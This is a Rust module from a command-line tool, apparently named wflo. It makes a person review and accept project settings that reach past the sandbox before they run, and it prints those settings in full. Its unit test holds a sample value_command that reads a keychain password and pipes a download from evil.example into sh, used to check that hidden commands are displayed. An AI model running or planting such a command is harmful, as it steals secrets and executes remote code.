//! Whether a project's own `wflo.toml` may have what reaches past its sandbox.
//!
//! A cloned repository brings its `wflo.toml` along. Most of it only makes things stricter; what
//! does not (a command for a key, mounts, variables, no isolation) is somebody else's word until a
//! person of this machine has accepted it once. So is a run that `.wflo` brought along, with what it was
//! started with. What was accepted is kept in the user's state
//! folder, never in the project.
//! **Architecture Invariant:** nothing that a file asks for by such a setting is run, read or shown
//! before it was accepted; settings from the environment and the command line are the operator's own.

mod asked;
mod command;
pub(crate) mod hosts;
mod own;
mod record;
pub(crate) mod shown;
pub(crate) mod store;

pub(crate) use asked::{Asked, asked, by_hand, host_by_hand, led_to, of_program, of_run, reach_of_run};
pub(crate) use command::guarded;

use wflo_core::error::{Code, Failure};

use crate::commands::{Context, Terminal};
use crate::failure::CommandError;
use crate::plain;
use crate::settings::Settings;

/// The settings are not trusted.
const NOT_TRUSTED: Code = Code(8016);
/// What a command runs cannot be looked at.
const UNREADABLE: Code = Code(8018);
/// Accepts whatever is asked for, for one command.
const VARIABLE: &str = "WFLO_TRUST";
/// How many columns a setting may have to stand beside what it does; a wider one stands above it.
const BESIDE: usize = 60;
/// The most settings that an error names.
const NAMED: usize = 3;

/// What is asked for, by the settings and beside them, and has not been accepted.
pub(crate) fn missing(context: &Context<'_>, settings: &Settings, beside: &[Asked]) -> Vec<Asked> {
    let nothing = settings.asked.is_empty() && beside.is_empty();
    if nothing || context.environment.get(VARIABLE) == Some("1") {
        return Vec::new();
    }
    let accepted = record::read(&settings.project.root);
    let all = settings.asked.iter().chain(beside);
    let is_known = |asked: &&Asked| asked.unreadable().is_none() && accepted.contains(&asked.recorded());
    all.filter(|asked| !is_known(asked)).cloned().collect()
}

/// Accepts these for the project, beside what was accepted before.
///
/// # Errors
/// When that cannot be kept.
pub(crate) fn accept(settings: &Settings, asked: &[Asked]) -> Result<(), CommandError> {
    // Nobody can know what it does, nor see when it changes.
    if let Some((asked, why)) = asked.iter().find_map(|asked| Some((asked, asked.unreadable()?))) {
        let message = format!("{} cannot be trusted: it names {}", asked.key, plain::line(why));
        let hint = "make it a file of the project that you can read, or take the command out of wflo.toml";
        return Err(CommandError::usage(vec![Failure::new(UNREADABLE, message).with_hint(hint)]));
    }
    record::add(&settings.project.root, asked.iter().map(Asked::recorded)).map_err(CommandError::from)
}

/// Accepts nothing any more. Whether something was accepted.
///
/// # Errors
/// When the record cannot be removed.
pub(crate) fn forget(settings: &Settings) -> Result<bool, CommandError> {
    record::remove(&settings.project.root).map_err(CommandError::from)
}

/// Refuses a project that asks for more than was accepted.
///
/// # Errors
/// `WFLO-8016`, with the settings.
pub(crate) fn require(context: &Context<'_>, settings: &Settings) -> Result<(), CommandError> {
    let missing = missing(context, settings, &[]);
    if missing.is_empty() { Ok(()) } else { Err(refusal(settings, &missing)) }
}

/// The same, after asking whoever sits at the terminal, and of what is asked for `beside` the settings.
///
/// # Errors
/// `WFLO-8016` when nobody is there or the answer is not yes.
pub(crate) fn settle(
    context: &Context<'_>,
    settings: &Settings,
    beside: &[Asked],
    stdin_taken: bool,
) -> Result<(), CommandError> {
    let missing = missing(context, settings, beside);
    if missing.is_empty() {
        return Ok(());
    }
    let terminal = if context.printer.json_wanted() { None } else { Terminal::find(stdin_taken) };
    let Some(mut terminal) = terminal else { return Err(refusal(settings, &missing)) };
    let printer = context.printer;
    printer.aside(format_args!("{} asks for more than its own sandbox:\n", file_of(settings)));
    for line in lines(&missing, printer.width_beside()) {
        printer.aside(line);
    }
    printer.aside("\nYou are asked once, and again when these settings change.");
    let question = printer.beside().strong("Do you trust this project with them? [y/N]");
    terminal.forget();
    printer.prompt(format_args!("{question} "));
    if !terminal.says_yes() {
        return Err(declined(settings));
    }
    printer.aside("");
    accept(settings, &missing)
}

/// What is asked for, indented: the settings, each whole, and what they do. Nobody accepts what they were not shown.
pub(crate) fn lines(asked: &[Asked], columns: Option<usize>) -> Vec<String> {
    let settings: Vec<String> = asked.iter().map(|asked| plain::line(&asked.setting())).collect();
    let wide = |setting: &&String| console::measure_text_width(setting) > BESIDE;
    let beside = settings.iter().filter(|setting| !wide(setting));
    let width = beside.map(|setting| console::measure_text_width(setting)).max().unwrap_or(0);
    let mut lines = Vec::new();
    for (setting, asked) in settings.iter().zip(asked) {
        if wide(&setting) {
            // The rest of a setting is further in, so that it cannot look like another one.
            let parts = plain::wrapped(setting, columns.unwrap_or(usize::MAX).saturating_sub(6).max(20));
            let indented = parts.iter().enumerate().map(|(at, part)| match at {
                0 => format!("  {part}"),
                _ => format!("      {part}"),
            });
            lines.extend(indented);
            lines.push(format!("  {:width$}   {}", "", asked.does));
        } else {
            lines.push(format!("  {}   {}", plain::padded(setting, width), asked.does));
        }
    }
    lines
}

fn file_of(settings: &Settings) -> String {
    let file = settings.project.file.as_ref().unwrap_or(&settings.project.root);
    plain::line(&file.display().to_string())
}

fn declined(settings: &Settings) -> CommandError {
    let message = format!("nothing was run: {} is not trusted", file_of(settings));
    let failure = Failure::new(NOT_TRUSTED, message)
        .with_hint("take these settings out of it, or run it again once you trust them");
    CommandError::usage(vec![failure])
}

fn refusal(settings: &Settings, missing: &[Asked]) -> CommandError {
    let mut named: Vec<String> = missing.iter().take(NAMED).map(|asked| asked.brief(60)).collect();
    if missing.len() > NAMED {
        named.push(format!("{} more", missing.len() - NAMED));
    }
    let message = format!("{} is not trusted with {}", file_of(settings), named.join(", "));
    // What a run or a program of the project has beside the settings is answered where it is asked.
    let hint = match missing.iter().all(|asked| asked.key.starts_with("run.")) {
        true => "run it at a terminal to be asked; WFLO_TRUST=1 accepts this for one command",
        false => {
            "look at what they do, and accept them with `wflo trust`; WFLO_TRUST=1 accepts them for one command"
        }
    };
    CommandError::usage(vec![Failure::new(NOT_TRUSTED, message).with_hint(hint)])
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn what_is_accepted_is_shown_to_its_end() {
        let hidden =
            "security find-generic-password -s api-key -a me -w; curl -s https://evil.example/x | sh";
        let text = format!("[secrets.s]\nhosts = [\"a.example\"]\nvalue_command = \"{hidden}\"\n");
        let node = crate::document::toml::parse("wflo.toml", &text).unwrap();
        let asked = asked(&node, std::path::Path::new("/project"));
        let whole = lines(&asked, None);
        assert!(whole.iter().any(|line| line.contains(hidden)), "{whole:?}");
        let wrapped = lines(&asked, Some(40));
        let joined: String = wrapped.iter().map(|line| line.trim_start_matches(' ')).collect();
        assert!(joined.replace(' ', "").contains(&hidden.replace(' ', "")), "{wrapped:?}");
        assert!(wrapped.iter().all(|line| console::measure_text_width(line) <= 70), "{wrapped:?}");
        assert!(wrapped[0].ends_with("gets the secret's value"), "{wrapped:?}");
        let rest = wrapped.iter().skip(2).take_while(|line| !line.ends_with("every sandbox"));
        let rest: Vec<_> = rest.collect();
        assert!(rest.len() > 1 && rest.iter().all(|line| line.starts_with("      ")), "{wrapped:?}");
    }
}
